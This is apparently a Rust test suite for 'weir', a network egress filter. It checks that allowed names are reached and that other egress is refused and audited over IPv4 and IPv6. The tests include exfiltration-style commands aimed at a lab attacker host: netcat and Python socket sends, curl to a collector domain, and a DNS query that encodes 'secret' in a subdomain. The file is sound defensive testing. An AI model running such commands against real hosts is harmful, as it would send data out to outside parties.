//! Programs that people run, allowed, refused and audited, over IPv4 and IPv6.

use anyhow::{Result, ensure};
use weir_tests::expect::{self, Act};
use weir_tests::lab::{Lab, addresses};
use weir_tests::profile::Profile;
use weir_tests::programs::Program;
use weir_tests::skip::{self, Skip};

/// Names that are no name of this profile, and addresses that no answer led to.
const NAME: &str = "domain_not_in_allowlist";
const ADDRESS: &str = "direct_ip_no_dns";

/// What weir answers for a name that is not allowed (Extended DNS Error 15, RFC 8914).
const REFUSAL: &str = "EDE: 15 (Blocked)";

fn profile() -> Profile {
    Profile::deny_all().domains(&["files.example.com", "git.example.com"])
}

#[test]
fn curl_reaches_allowed_names() -> Result<()> {
    let lab = Lab::new()?;
    for family in ["-4", "-6"] {
        let argv = ["curl", "-sS", family, "https://files.example.com/"];
        let outcome = expect::allowed(&lab, &profile(), &argv)?;
        ensure!(outcome.output.stdout == "hello from files.example.com\n");
        let flow =
            outcome.events.iter().find(|event| event.kind() == "flow" && event.proto() == "tcp");
        let flow = flow.ok_or_else(|| anyhow::anyhow!("no flow in {}", outcome.describe()))?;
        ensure!(flow.host() == "files.example.com" && flow.comm() == "curl", "{flow}");
        ensure!(flow.number("/bytes_up") > 0 && flow.number("/bytes_down") > 0, "{flow}");
    }
    Ok(())
}

#[test]
fn curl_is_refused_other_names() -> Result<()> {
    let lab = Lab::new()?;
    lab.attacker.listen(443)?;
    lab.attacker.listen(80)?;
    let argv = ["curl", "-sS", "-m", "10", "http://collector.example.net/"];
    let act =
        Act::new(&argv, lab.attacker.host(), &[NAME]).by("curl").named("collector.example.net");
    expect::refused(&lab, &profile(), &act)
}

#[test]
fn a_refused_name_is_never_asked_upstream() -> Result<()> {
    let lab = Lab::new()?;
    lab.authority.forget();
    let name = "c2VjcmV0.collector.example.net";
    lab.client.run(&["dig", name])?.expect_code(0)?;
    ensure!(lab.authority.count(name) > 0, "without weir the question did not get out");
    lab.authority.forget();
    let outcome = lab.weir().profile(&profile().text())?.run(&["dig", name])?;
    ensure!(outcome.output.stdout.contains(REFUSAL), "{}", outcome.describe());
    ensure!(lab.authority.count(name) == 0, "{:?}", lab.authority.questions());
    outcome.violation("for the name", |event| event.reason() == NAME && event.host() == name)?;
    Ok(())
}

#[test]
fn curl_is_refused_addresses() -> Result<()> {
    let lab = Lab::new()?;
    lab.attacker.listen(443)?;
    let urls = [
        (format!("http://{}:443/", addresses::ATTACKER.v4), addresses::ATTACKER.both()[0]),
        (format!("http://[{}]:443/", addresses::ATTACKER.v6), addresses::ATTACKER.both()[1]),
    ];
    for (url, address) in urls {
        let argv = ["curl", "-sS", "-m", "10", &url];
        let act = Act::new(&argv, lab.attacker.host(), &[ADDRESS]).by("curl").to(address, 443);
        expect::refused(&lab, &profile(), &act)?;
    }
    Ok(())
}

#[test]
fn an_allowed_host_is_refused_at_another_port() -> Result<()> {
    let lab = Lab::new()?;
    for family in ["-4", "-6"] {
        let argv = ["curl", "-sS", "-m", "10", family, "http://files.example.com/"];
        let act = Act::new(&argv, lab.web.host(), &["port_not_allowed"]).by("curl");
        expect::refused(&lab, &profile(), &act.named("files.example.com"))?;
    }
    Ok(())
}

#[test]
fn git_clones_allowed_hosts_only() -> Result<()> {
    let lab = Lab::new()?;
    let allowed = ["git", "clone", "--quiet", "https://git.example.com/project.git", "allowed"];
    expect::allowed(&lab, &profile(), &allowed)?;
    ensure!(lab.client.home().join("allowed/README").is_file());
    // Git clones into a fresh folder each time.
    let script = "exec git clone --quiet https://mirror.example.com/project.git $(mktemp -d)";
    let act = Act::new(&["sh", "-c", script], lab.web.host(), &[NAME]).named("mirror.example.com");
    expect::refused(&lab, &profile(), &act)
}

#[test]
fn dig_never_reaches_a_foreign_resolver() -> Result<()> {
    let lab = Lab::new()?;
    for server in addresses::FOREIGN.both() {
        for transport in ["+notcp", "+tcp"] {
            let server = format!("@{server}");
            let argv = ["dig", &server, transport, "+tries=1", "+time=3", "collector.example.net"];
            lab.foreign.forget();
            lab.client.run(&argv)?.expect_code(0)?;
            ensure!(!lab.foreign.questions().is_empty(), "{argv:?}: nothing without weir");
            lab.foreign.forget();
            let watch = lab.watch(lab.foreign.host())?;
            let outcome = lab.weir().profile(&profile().text())?.run(&argv)?;
            ensure!(watch.take()?.is_empty(), "{argv:?} got out: {}", outcome.describe());
            ensure!(outcome.output.stdout.contains(REFUSAL), "{}", outcome.describe());
            outcome.violation("of dig", |event| event.host() == "collector.example.net")?;
            // A captured question for an allowed name is answered, by weir.
            let argv = ["dig", &server, transport, "+short", "files.example.com", "A"];
            let outcome = lab.weir().profile(&profile().text())?.run(&argv)?.expect_code(0)?;
            let answer = outcome.output.stdout.trim();
            ensure!(answer == addresses::WEB[0].v4.to_string(), "{}", outcome.describe());
            ensure!(lab.foreign.questions().is_empty(), "{:?}", lab.foreign.questions());
        }
    }
    Ok(())
}

#[test]
fn a_static_client_with_its_own_resolver_is_captured() -> Result<()> {
    let lab = Lab::new()?;
    lab.attacker.listen(443)?;
    let program = Program::StaticClient.path()?;
    for server in addresses::FOREIGN.both() {
        for transport in ["udp", "tcp"] {
            let server = server.to_string();
            let allowed = [&program, transport, &server, "53", "files.example.com", "443"];
            // The web server speaks TLS here, so reading after the connect ends in an error or not;
            // that the connect worked is what counts.
            let outcome = lab.weir().profile(&profile().text())?.run(&allowed)?;
            ensure!(!outcome.output.stdout.contains("EPERM"), "{}", outcome.describe());
            ensure!(outcome.violations().count() == 0, "{}", outcome.describe());
            let refused = [&program, transport, &server, "53", "collector.example.net", "443"];
            let act = Act::new(&refused, lab.attacker.host(), &[NAME]).by("static-client");
            expect::refused(&lab, &profile(), &act)?;
        }
    }
    Ok(())
}

#[test]
fn netcat_is_refused() -> Result<()> {
    let lab = Lab::new()?;
    lab.attacker.listen(9999)?;
    for address in addresses::ATTACKER.both() {
        let tcp = format!("echo bytes | nc -N -w 3 {address} 9999");
        let act = Act::new(&["bash", "-c", &tcp], lab.attacker.host(), &[ADDRESS]).by("nc");
        expect::refused(&lab, &profile(), &act.to(address, 9999))?;
        let udp = format!("echo bytes | nc -u -w 1 {address} 9999");
        let act = Act::new(&["bash", "-c", &udp], lab.attacker.host(), &[ADDRESS]).by("nc");
        expect::refused(&lab, &profile(), &act.to(address, 9999).silent_off())?;
    }
    Ok(())
}

#[test]
fn ping_is_refused() -> Result<()> {
    let lab = Lab::new()?;
    // The packaged program may carry a file capability that weir's bounding set no longer holds, and
    // then does not even start; a copy has none and uses an unprivileged ICMP socket.
    let copy = lab.client.home().join("ping");
    std::fs::copy("/usr/bin/ping", &copy)?;
    let ping = copy.to_string_lossy().into_owned();
    for address in addresses::ATTACKER.both() {
        let argv = [&ping, "-c", "1", "-W", "2", &address.to_string()];
        let act = Act::new(&argv, lab.attacker.host(), &["protocol_not_allowed"]).by("ping");
        expect::refused(&lab, &profile(), &act)?;
    }
    Ok(())
}

#[test]
fn python_sockets_are_refused() -> Result<()> {
    let lab = Lab::new()?;
    lab.attacker.listen(9999)?;
    for address in addresses::ATTACKER.both() {
        let tcp = format!(
            "import socket; socket.create_connection(('{address}', 9999), 3).sendall(b'bytes')"
        );
        let act = Act::new(&["/usr/bin/python3", "-c", &tcp], lab.attacker.host(), &[ADDRESS]);
        expect::refused(&lab, &profile(), &act.to(address, 9999))?;
        let family = if address.is_ipv4() { "AF_INET" } else { "AF_INET6" };
        let udp = format!(
            "from socket import *; socket({family}, SOCK_DGRAM).sendto(b'bytes', ('{address}', 9999))"
        );
        let act = Act::new(&["/usr/bin/python3", "-c", &udp], lab.attacker.host(), &[ADDRESS]);
        expect::refused(&lab, &profile(), &act.to(address, 9999))?;
    }
    Ok(())
}

#[test]
fn an_io_uring_client_is_refused() -> Result<()> {
    let lab = Lab::new()?;
    lab.attacker.listen(4000)?;
    let program = Program::Uring.path()?;
    for address in addresses::ATTACKER.both() {
        for act in ["tcp", "udp", "tcp-polled"] {
            let argv = [program.as_str(), act, &address.to_string(), "4000"];
            if lab.client.run(&argv)?.code == 3 {
                return skip::record("real_programs::io_uring", Skip::IoUringDisabled);
            }
            // The submitting thread of the kernel carries another name; the process is the same.
            let act = Act::new(&argv, lab.attacker.host(), &[ADDRESS]).to(address, 4000);
            expect::refused(&lab, &profile(), &act)?;
        }
    }
    Ok(())
}
